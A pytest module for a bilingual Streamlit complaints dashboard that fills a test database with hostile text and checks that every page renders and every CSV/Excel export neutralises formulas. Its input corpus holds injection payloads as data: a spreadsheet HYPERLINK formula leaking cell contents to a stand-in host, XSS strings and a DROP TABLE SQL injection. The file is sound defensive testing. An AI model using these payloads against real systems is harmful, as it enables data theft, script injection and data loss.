"""Stored text of any shape never breaks a page or an export.

A private copy of the seeded SQLite store gets hostile values written with plain SQL (as an older
version, an import or a hand-written query could have left them) in every stored text field a page
shows, plus improvement due dates of 9999-12-31 and 1900-01-01. Then every page is drawn for every
role that may open it, in Chinese and English: no exception, no incident, and every table's CSV and
Excel export (built by calling the deferred builder the download button was given) holds no formula
and no character a worksheet cannot hold.

``make_hostile`` is also what the manual look at the app uses (see the module's ``__main__``).
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import streamlit as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import Connection, create_engine, text

from components.auth import PAGES
from components.i18n import LANGS
from components.labels import LABELS
from db import clock
from db import engine as db_engine
from domain.users import PAGE_ROLES
from tests.app.helpers import Builders, app_runner
from tests.helpers import AS_OF

BIG = ("超长文本 long text 𠮷 " * 7000)[:100_000]  # 100 KB of text, more than an Excel cell holds
CORPUS = (
    "第一行\x0b第二行",  # Word's soft line break (U+000B)
    "\x0b=1+2",  # a control character in front of a formula
    "\u200b",  # a zero-width space, alone
    '=HYPERLINK("http://x?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "表情 😀 生僻字 𠮷",
    "'; DROP TABLE complaints; --",
    "**x** [a](http://x)",
)
NUL = "空\x00字符"  # SQLite keeps NUL inside text; PostgreSQL refuses it
FORMULA = CORPUS[3]
# Texts that prove a page drew a hostile value (masking and truncation keep at least one of them).
MARKERS = ("HYPERLINK", "<script>", "onerror", "DROP TABLE", "😀", "**x**", "@SUM", "+1+1", "-2+3", "第二行")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?")
FAR_DUE, EARLY_DUE = "9999-12-31", "1900-01-01"

# (table, column, SQL condition) of every stored text a page shows; columns under a unique
# constraint keep their values distinct (an exact corpus value on the first rows, numbered after).
ROTATED: tuple[tuple[str, str, str], ...] = (
    ("complaints", "description", "1=1"),
    ("complaints", "level_override_reason", "level_override_reason IS NOT NULL"),
    ("complaint_events", "note", "1=1"),
    ("customers", "name", "1=1"),
    ("early_warnings", "customer_name", "1=1"),
    ("early_warnings", "suggestion", "1=1"),
    ("early_warnings", "description", "1=1"),
    ("early_warnings", "head_comment", "1=1"),
    ("early_warnings", "plan", "plan IS NOT NULL"),
    ("early_warnings", "evaluation", "evaluation IS NOT NULL"),
    ("warning_events", "note", "1=1"),
    ("improvement_items", "issue", "1=1"),
    ("improvement_items", "department", "1=1"),
    ("improvement_items", "measure", "1=1"),
    ("improvement_items", "owner", "1=1"),
    ("improvement_items", "evidence", "1=1"),
    ("qa_reviews", "note", "1=1"),
    ("agents", "name", "1=1"),
    ("users", "display_name", "1=1"),
    ("holidays", "name", "1=1"),
    ("complaint_resolutions", "reply", "1=1"),
    ("complaint_outcomes", "kind", "1=1"),
)
UNIQUE: tuple[tuple[str, str], ...] = (
    ("teams", "name"),
    ("teams", "name_en"),
    ("cities", "name"),
    ("cities", "name_en"),
)
SAMPLE_SIZE = 30


def corpus(nul: bool) -> tuple[str, ...]:
    return (*CORPUS, NUL) if nul else CORPUS


def _rotate(conn: Connection, table: str, column: str, where: str, values: tuple[str, ...]) -> None:
    for k, value in enumerate(values):
        conn.execute(
            text(f"UPDATE {table} SET {column} = :v WHERE ({where}) AND rowid % :n = :k"),
            {"v": value, "n": len(values), "k": k},
        )


def _rotate_unique(conn: Connection, table: str, column: str, values: tuple[str, ...]) -> None:
    n = len(values)
    for k, value in enumerate(values):
        conn.execute(text(f"UPDATE {table} SET {column} = :v WHERE rowid = :r"), {"v": value, "r": k + 1})
        conn.execute(
            text(f"UPDATE {table} SET {column} = :v || ' #' || rowid WHERE rowid > :n AND rowid % :n = :k"),
            {"v": value, "n": n, "k": k},
        )


def _on_newest(conn: Connection, ref: str, values: tuple[str, ...]) -> None:
    """The newest case and warning get a timeline note per corpus value; the 100 KB text goes to
    them, the case's customer, the last improvement item and the last call review."""
    case_id = conn.execute(text("SELECT id FROM complaints WHERE ref_no = :r"), {"r": ref}).scalar_one()
    newest = "(SELECT id FROM early_warnings ORDER BY reported_at DESC LIMIT 1)"
    for value in values:
        conn.execute(
            text(
                "INSERT INTO complaint_events (complaint_id, at, kind, note) "
                "SELECT :id, MAX(at), 'note', :v FROM complaint_events WHERE complaint_id = :id"
            ),
            {"id": case_id, "v": value},
        )
        conn.execute(
            text(
                "INSERT INTO warning_events (warning_id, at, kind, note) "
                f"SELECT warning_id, MAX(at), 'tracking', :v FROM warning_events WHERE warning_id = {newest}"
            ),
            {"v": value},
        )
    conn.execute(text("UPDATE complaints SET description = :v WHERE id = :id"), {"v": BIG, "id": case_id})
    conn.execute(
        text(
            "UPDATE complaint_events SET note = :v WHERE id = (SELECT MIN(id) FROM complaint_events WHERE complaint_id = :id)"
        ),
        {"v": BIG, "id": case_id},
    )
    conn.execute(
        text("UPDATE customers SET name = :v WHERE id = (SELECT customer_id FROM complaints WHERE id = :id)"),
        {"v": BIG, "id": case_id},
    )
    conn.execute(text(f"UPDATE early_warnings SET suggestion = :v WHERE id = {newest}"), {"v": BIG})
    conn.execute(
        text(
            f"UPDATE warning_events SET note = :v WHERE id = (SELECT MIN(id) FROM warning_events WHERE warning_id = {newest})"
        ),
        {"v": BIG},
    )
    conn.execute(
        text("UPDATE improvement_items SET issue = :v WHERE id = (SELECT MAX(id) FROM improvement_items)"), {"v": BIG}
    )
    conn.execute(
        text(
            "UPDATE qa_reviews SET note = :v WHERE id = (SELECT id FROM qa_reviews ORDER BY reviewed_at DESC LIMIT 1)"
        ),
        {"v": BIG},
    )


def _hostile_sample(conn: Connection, values: tuple[str, ...]) -> None:
    """A committee sample drawn and half reviewed, with hostile strata and review comments."""
    committee = conn.execute(text("SELECT MIN(id) FROM users WHERE role = 'committee'")).scalar_one()
    params = {"requested": SAMPLE_SIZE, "population": 500, "strata": dict.fromkeys(values, 1), "method": "hostile"}
    sample_id = conn.execute(
        text(
            "INSERT INTO committee_samples (period_start, period_end, size, random_seed, params, drawn_by, drawn_at) "
            "VALUES ('2026-10-01', '2026-10-31', :size, 7, :params, :by, '2026-11-20 09:00:00.000000') RETURNING id"
        ),
        {"size": SAMPLE_SIZE, "params": json.dumps(params), "by": committee},
    ).scalar_one()
    cases = conn.execute(text("SELECT id FROM complaints ORDER BY received_at DESC LIMIT :n"), {"n": SAMPLE_SIZE})
    for i, (case_id,) in enumerate(cases.all()):
        reviewed = i % 2 == 0
        score = 1 + i % 5 if reviewed else None
        conn.execute(
            text(
                "INSERT INTO sample_items (sample_id, complaint_id, stratum, reviewer_id, reviewed_at, timeliness,"
                " accuracy, attitude, resolution, compliance, passed, comment) VALUES (:s, :c, :stratum, :by, :at,"
                " :score, :score, :score, :score, :score, :passed, :comment)"
            ),
            {
                "s": sample_id,
                "c": case_id,
                "stratum": values[i % len(values)],
                "by": committee if reviewed else None,
                "at": "2026-11-21 10:00:00.000000" if reviewed else None,
                "score": score,
                "passed": (i % 4 != 0) if reviewed else None,
                "comment": (BIG if i == 0 else values[i % len(values)]) if reviewed else None,
            },
        )


def _hostile_audit(conn: Connection, values: tuple[str, ...]) -> None:
    """Unmask reasons (and an action and entity no label names) in the audit log the admin reads."""
    for value in values:
        conn.execute(
            text(
                "INSERT INTO audit_log (at, user_id, action, entity, entity_id, detail) "
                "VALUES (:at, NULL, :action, :entity, :record, :detail)"
            ),
            {
                "at": AS_OF,
                "action": value[:40],
                "entity": value[:40],
                "record": value[:40],
                "detail": json.dumps({"reason": value}),
            },
        )


def _hostile_closure(conn: Connection, ref: str, values: tuple[str, ...]) -> tuple[int, str]:
    """The newest case gets a 100 KB reply, an outcome of every corpus value (with an amount) and a
    survey with a hostile comment and source; the newest resolved case of a customer gets a hostile
    100 KB reply too. Returns that case's id and number, for the progress page."""
    case_id = conn.execute(text("SELECT id FROM complaints WHERE ref_no = :r"), {"r": ref}).scalar_one()
    conn.execute(
        text(
            "INSERT INTO complaint_resolutions (complaint_id, reply, recorded_at, recorded_by) "
            "VALUES (:id, :v, :at, NULL)"
        ),
        {"id": case_id, "v": BIG, "at": AS_OF},
    )
    for value in values:
        conn.execute(
            text("INSERT INTO complaint_outcomes (complaint_id, kind, amount) VALUES (:id, :k, 12345.67)"),
            {"id": case_id, "k": value},
        )
    conn.execute(
        text(
            "INSERT INTO satisfaction_surveys (agent_id, customer_id, complaint_id, at, score, comment, source) "
            "VALUES (NULL, (SELECT MIN(id) FROM customers), :id, :at, 3, :v, :v)"
        ),
        {"id": case_id, "at": AS_OF, "v": values[3]},
    )
    closed_id, closed_ref = conn.execute(
        text(
            "SELECT c.id, c.ref_no FROM complaints c JOIN complaint_resolutions r ON r.complaint_id = c.id "
            "WHERE c.customer_id IS NOT NULL AND c.resolve_at IS NOT NULL ORDER BY c.resolve_at DESC LIMIT 1"
        )
    ).one()
    conn.execute(
        text("UPDATE complaint_resolutions SET reply = :v WHERE complaint_id = :id"),
        {"v": f"{CORPUS[11]}\n{BIG}", "id": closed_id},
    )
    return int(closed_id), str(closed_ref)


def _hostile_notify(conn: Connection, values: tuple[str, ...]) -> None:
    """Notification channels with hostile names, secret names, events and options, and an outbox row
    per corpus value: its payload (of any shape), event and last error hostile, queued now (the
    outbox keeps the real clock), every other one failed."""
    for k, value in enumerate(values[:2]):
        conn.execute(
            text(
                "INSERT INTO notify_channels (name, kind, secret_name, events, options, active, updated_at) "
                "VALUES (:name, :kind, :v, :events, :options, 1, :at)"
            ),
            {
                "name": f"{value} #{k}",
                "kind": ("wecom", value)[k],
                "v": value,
                "events": json.dumps([value, "reminder"] if k else value),
                "options": json.dumps({"user": value} if k else [value]),
                "at": AS_OF,
            },
        )
    for k, value in enumerate(values):
        payload = {"ref": value, "customer": value, "handler": value, "stage": value, "due": value, "team": value}
        conn.execute(
            text(
                "INSERT INTO notify_outbox (channel_id, event, event_key, payload, status, attempts, parts_sent, "
                "created_at, next_attempt_at, last_error) "
                "VALUES ((SELECT MIN(id) FROM notify_channels), :event, :key, :payload, :status, 3, 0, :at, :at, :v)"
            ),
            {
                "event": ("reminder", "l1_new", "stage_overdue", "signoff_waiting", "weekly_pack", value[:20])[k % 6],
                "key": f"hostile:{k}",
                "payload": json.dumps(payload if k % 3 else [value]),
                "status": "failed" if k % 2 else "pending",
                "at": clock.wall_now(),
                "v": value,
            },
        )


@dataclass(frozen=True)
class Hostile:
    url: str
    ref: str  # the newest case, with the 100 KB description, timeline note and reply
    closed: tuple[int, str]  # id and number of a resolved case of a customer, with a 100 KB reply


def make_hostile(url: str, *, nul: bool = True) -> Hostile:
    """Write the corpus into every stored text field a page shows (plain SQL on a SQLite store); the
    newest case carries the 100 KB texts."""
    values = corpus(nul)
    eng = create_engine(url)
    try:
        with eng.begin() as conn:
            ref = conn.execute(text("SELECT ref_no FROM complaints ORDER BY received_at DESC LIMIT 1")).scalar_one()
            for table, column, where in ROTATED:
                _rotate(conn, table, column, where, values)
            for table, column in UNIQUE:
                _rotate_unique(conn, table, column, values)
            _on_newest(conn, ref, values)
            # Every role with the case page has the newest case in scope: the demo head's team, the
            # demo staff's first contact (a head and staff see only their team's and own cases).
            conn.execute(
                text(
                    "UPDATE complaints SET team_id = (SELECT team_id FROM users WHERE username = 'head'), "
                    "first_owner_id = (SELECT id FROM users WHERE username = 'staff') WHERE ref_no = :r"
                ),
                {"r": ref},
            )
            closed = _hostile_closure(conn, ref, values)
            _hostile_sample(conn, values)
            _hostile_audit(conn, values)
            _hostile_notify(conn, values)
            conn.execute(text("UPDATE improvement_items SET due_date = :d WHERE id % 2 = 0"), {"d": FAR_DUE})
            conn.execute(text("UPDATE improvement_items SET due_date = :d WHERE id % 4 = 1"), {"d": EARLY_DUE})
    finally:
        eng.dispose()
    return Hostile(url, ref, closed)


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def hostile(seeded_sqlite: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """One hostile copy of the seeded store for the whole module (the pages only read it)."""
    copy = tmp_path_factory.mktemp("hostile") / "store.sqlite3"
    shutil.copyfile(Path(seeded_sqlite.removeprefix("sqlite:///")), copy)
    url = f"sqlite:///{copy}"
    made = make_hostile(url)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(db_engine.ENV_VAR, url)
        mp.setenv(clock.ENV_VAR, AS_OF.isoformat())
        st.cache_data.clear()  # reads cached from another store must not answer for this one
        try:
            yield made
        finally:
            st.cache_data.clear()
            db_engine._engine_for(url).dispose()


# --------------------------------------------------------------------------- checks


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def assert_safe_csv(data: bytes, name: str) -> list[str]:
    cells = csv_cells(data)
    for cell in cells:
        assert not ILLEGAL_CHARACTERS_RE.search(cell), (name, cell[:80])
        assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), (name, cell[:80])
    return cells


def assert_safe_xlsx(data: bytes, name: str) -> list[str]:
    """Every cell is a value, none a formula or an error; returns the text cells."""
    texts: list[str] = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not ILLEGAL_CHARACTERS_RE.search(cell.value), (name, cell.coordinate)
                    assert len(cell.value) <= 32_767, (name, cell.coordinate)
                    texts.append(cell.value)
    return texts


def shown_text(at) -> str:
    """What the page (not the sidebar) shows as text: tables, text, Markdown, captions, picker labels."""
    main = at.main
    parts = [str(v) for frame in main.dataframe for v in frame.value.astype(str).to_numpy().ravel()]
    for kind in ("text", "markdown", "caption", "subheader", "info", "warning"):
        parts += [str(el.value) for el in main.get(kind)]
    for kind in ("selectbox", "radio", "multiselect"):
        parts += [str(option) for el in main.get(kind) for option in getattr(el, "options", [])]
    return "\n".join(parts)


# Dashboards of counts and rates show no stored free text; every other page does, except where
# the demo user's scope holds nothing (the first department head's team has no warning) and the
# progress lookup before a case is looked up.
COUNT_DASHBOARDS = ("overview", "channels", "loyalty", "explore")
FORM_FIRST = ("progress",)
# Pages that show an uploaded file, and nothing stored or exportable until a file is uploaded.
UPLOAD_PAGES = ("import",)
EMPTY_SCOPE = {("warning_ledger", "dept_head")}
# Pages whose forms and lists have no export, and scopes with no table to export.
NO_EXPORT = (
    {("intake", r) for r in PAGE_ROLES["intake"]}
    | {(p, r) for p in UPLOAD_PAGES for r in PAGE_ROLES[p]}
    | {("sla", "dept_head"), ("warning_ledger", "dept_head")}
    | {("progress", r) for r in PAGE_ROLES["progress"]}
)
# Views whose exports must carry formula-like text (as text); the ledger has a test of its own.
EXPORTS_FORMULA_TEXT = {("cases", False), ("cases", True), ("improvements", False), ("sample", False)}
_PDFS_MADE: set[tuple[str, str]] = set()
# The detail a page shows once something is chosen: (page, chosen) → widget presets.
VARIANTS = ("cases", "handling", "progress")
VIEWS = [
    (page_id, role, chosen)
    for page_id, roles in PAGE_ROLES.items()
    for chosen in ((False, True) if page_id in VARIANTS else (False,))
    if not (page_id == "handling" and not chosen)  # the handling queue is drawn on both runs
    for role in sorted(roles)
]


def _preset(page_id: str, chosen: bool, hostile: Hostile) -> dict[str, object]:
    if page_id == "explore":  # teams and agents by name, and the cases of the first row
        return {"exp_by": ["team", "agent"], "exp_drill": 0}
    if not chosen:
        return {}
    if page_id == "progress":  # as a lookup that proved the case leaves it (the digits are not checked again)
        return {"progress_verified": (*hostile.closed, "0000")}
    return {"cases_ref": hostile.ref} if page_id == "cases" else {"handling_case": hostile.ref}


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize(
    ("page_id", "role", "chosen"),
    VIEWS,
    ids=[f"{p}{'+case' if c else ''}-{r}" for p, r, c in VIEWS],
)
def test_bad_input_every_page_draws_hostile_store_and_exports_it_safely(
    hostile: Hostile,
    deferred: Builders,
    caplog: pytest.LogCaptureFixture,
    page_id: str,
    role: str,
    chosen: bool,
    lang: str,
) -> None:
    with caplog.at_level(logging.ERROR, logger="dashboard.incident"):
        at = app_runner()(role=role, lang=lang, page=PAGES[page_id][0], **_preset(page_id, chosen, hostile))
    assert not at.exception, at.exception
    assert not caplog.records, caplog.text  # the error boundary caught nothing either
    if (
        page_id not in COUNT_DASHBOARDS + UPLOAD_PAGES
        and (page_id, role) not in EMPTY_SCOPE
        and not (page_id in FORM_FIRST and not chosen)
    ):
        shown = shown_text(at)
        assert any(marker in shown for marker in MARKERS), f"{page_id}: no hostile text shown"
    if chosen:
        assert any(BIG[:200] in el.value for el in at.text), "the 100 KB description is shown"

    buttons = list(at.download_button)
    if (page_id, role) not in NO_EXPORT and page_id != "warning_report":
        assert buttons, f"{page_id} offers no export"
    in_csv: list[str] = []
    in_xlsx: list[str] = []
    for button in buttons:
        assert button.proto.deferred_file_id and not button.proto.url, f"{button.label}: built before the click"
        build, name = deferred[button.proto.deferred_file_id]
        if name.endswith(".pdf"):  # the monthly report: made once per page and language (seconds each)
            if (page_id, lang) not in _PDFS_MADE:
                _PDFS_MADE.add((page_id, lang))
                assert build().startswith(b"%PDF-"), name
            continue
        data = build()
        assert isinstance(data, bytes) and data, name
        if name.endswith(".csv"):
            in_csv += assert_safe_csv(data, name)
        else:
            assert name.endswith(".xlsx"), name
            in_xlsx += assert_safe_xlsx(data, name)
    if (page_id, chosen) in EXPORTS_FORMULA_TEXT:  # formula-like text is exported, as text
        assert any(cell.startswith(TRIGGERS) for cell in in_xlsx), "no formula-like text cell in Excel"
        assert any(cell.startswith(tuple("'" + c for c in TRIGGERS)) for cell in in_csv), "none neutralised in CSV"


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_bad_input_improvement_dates_out_of_pandas_range_print_as_stored(hostile: Hostile, lang: str) -> None:
    at = app_runner()(role="committee", lang=lang, page=PAGES["improvements"][0])
    assert not at.exception, at.exception
    table = at.dataframe[0].value
    column = LABELS["improve.due"][LANGS.index(lang)]
    due = table[column].tolist()
    assert FAR_DUE in due and EARLY_DUE in due
    overdue = dict(zip(due, table[LABELS["improve.overdue_col"][LANGS.index(lang)]]))
    assert not overdue[FAR_DUE]  # due in 9999: not overdue


def test_bad_input_ledger_export_keeps_formula_text_as_text(hostile: Hostile, deferred: Builders) -> None:
    at = app_runner()(role="admin", lang="en", page=PAGES["warning_ledger"][0])
    assert not at.exception, at.exception
    button = at.download_button(key="ledger_table_xlsx")
    build, _ = deferred[button.proto.deferred_file_id]
    sheet = load_workbook(io.BytesIO(build())).active
    assert sheet is not None
    texts = [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    formula_like = [kind for value, kind in texts if value.startswith("=")]
    assert formula_like and set(formula_like) == {"s"}
    assert (FORMULA, "s") in texts
    csv_build, _ = deferred[at.download_button(key="ledger_table_csv").proto.deferred_file_id]
    assert "'" + FORMULA in csv_cells(csv_build())


if __name__ == "__main__":  # make a hostile store for a look in the browser: python -m ... URL
    print(make_hostile(sys.argv[1]))
